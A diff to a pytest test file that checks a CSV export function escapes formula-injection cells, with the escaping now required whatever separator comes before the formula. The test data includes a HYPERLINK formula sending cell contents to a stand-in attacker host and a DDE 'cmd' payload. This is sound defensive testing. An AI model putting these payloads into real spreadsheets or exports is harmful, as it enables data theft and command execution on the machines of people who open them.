@@ -7,26 +7,29 @@ import pytest
 
 from service.review.csv_files import csv_text
 
-ATTACKS = [
+FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
+    " =1+1",
+    '"=1+1',
     "\uff1d1+1",
 ]
+BEFORE = ["", "\t", "\r", "\n", "Ann;", "Ann\t", "Ann\n", "a;;"]
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_a_cell_that_would_compute_is_text(attack: str) -> None:
-    text = csv_text(["who", "count"], [[attack, -1]])
+@pytest.mark.parametrize("before", BEFORE)
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_cell_that_would_compute_is_text_whatever_separates_cells(
+    before: str, formula: str
+) -> None:
+    text = csv_text(["who", "count"], [[f"{before}{formula}", -1]])
     row = list(csv.reader(io.StringIO(text, newline="")))[1]
-    assert row == [f"'{attack}", "-1"]  # our own numbers stay numbers
+    assert row == [f"{before}'{formula}", "-1"]  # our own numbers stay numbers
 
 
 def test_quotes_and_lines_stay_in_their_cell() -> None:
-    said = 'a "quoted", and\nbroken line'
+    said = 'a "quoted", and\nbroken line; 1-2, a@b.example = c'
     text = csv_text(["what"], [[said]])
     assert list(csv.reader(io.StringIO(text, newline=""))) == [["what"], [said]]
